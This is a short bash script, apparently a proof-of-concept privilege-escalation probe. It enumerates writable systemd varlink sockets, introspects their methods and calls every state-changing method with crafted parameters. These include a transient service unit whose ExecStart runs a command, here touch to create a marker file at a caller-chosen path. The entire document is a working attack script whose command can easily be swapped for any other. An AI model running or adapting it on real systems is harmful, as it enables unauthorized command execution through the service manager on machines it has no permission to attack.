#!/bin/bash
# varlink_attack.bash PROOF: tries whatever systemd offers in varlink, on whichever socket somebody lets the caller in,
# and prints the methods. What it tries would make the file PROOF.
command='{"path":"/usr/bin/touch","arguments":["touch","PROOF"]}'
unit='{"context":{"ID":"rovi-nav.service","Service":{"ExecStart":['$command']}}}'
mapfile -t sockets < <(find /run/systemd /run/org.* -type s 2>/dev/null)
for socket in "${sockets[@]}"; do
    [[ -w $socket && $socket != /run/org.rovi.Executor ]] || continue
    for interface in $(varlinkctl list-interfaces "$socket" 2>/dev/null); do
        methods=$(varlinkctl introspect "$socket" "$interface" 2>/dev/null | sed -nE 's/^method ([A-Za-z]+).*/\1/p')
        for method in $methods; do
            case $method in Get* | Describe | List* | Subscribe* | Ping) continue ;; esac
            for parameters in '{"name":"rovi-nav.service"}' "$unit" '{}'; do
                echo "$interface.$method"
                timeout 5 varlinkctl call "$socket" "$interface.$method" "${parameters/PROOF/$1}" >/dev/null 2>&1
            done
        done
    done
done
